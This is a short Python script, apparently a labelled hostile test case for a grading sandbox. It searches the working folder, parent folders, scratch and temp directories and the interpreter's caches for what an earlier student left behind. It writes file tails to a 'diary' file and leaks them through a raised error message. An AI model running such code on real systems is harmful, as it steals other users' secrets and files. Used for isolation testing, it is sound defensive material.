# tries: to find what the student before left in the process, in folders, or in caches
# points: 0
# harm: secrets, files
import glob
import linecache
import os
import sys
import tempfile

told = [str(linecache.cache)[:99], str(sys.modules.get("one_hot"))]
for pattern in ("*", ".*", "../*", "../../*/scratch/*", tempfile.gettempdir() + "/*", "/scratch/*", "/tmp/*/*"):
    for name in glob.glob(pattern)[:99]:
        try:
            told.append(open(name).read()[-99:])
        except OSError as error:
            told.append(error.errno)
open("diary", "w").write(str(told))
raise ValueError(str(told)[:600])
